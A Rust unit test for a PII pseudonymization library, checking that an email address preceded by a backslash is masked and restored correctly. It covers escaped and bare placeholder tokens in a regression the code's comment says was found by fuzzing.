fn a_backslash_typed_before_a_value_survives_the_round_trip() {
    // Found by the round_trip fuzz target: `\` + a value went out as `\[EMAIL_ADDRESS_1]`,
    // which restore read as a markdown-escaped token and replaced with the backslash.
    let text = r"see C:\jane@example.com and \[x] and a\\jane@example.com";
    let found = pii_airlock::Engine::default_engine().scan(text);
    let mut vault = Vault::new();
    let out = vault.pseudonymize(text, &found);
    assert!(out.contains(r"\[EMAIL_ADDRESS_1]"), "{out}");
    assert_eq!(vault.restore(&out), text);
    // Both escaped forms still restore, and so does the bare bracketed one.
    assert_eq!(
        vault.restore(r"\[EMAIL\_ADDRESS\_1\] [EMAIL_ADDRESS_1]"),
        "jane@example.com jane@example.com"
    );
}
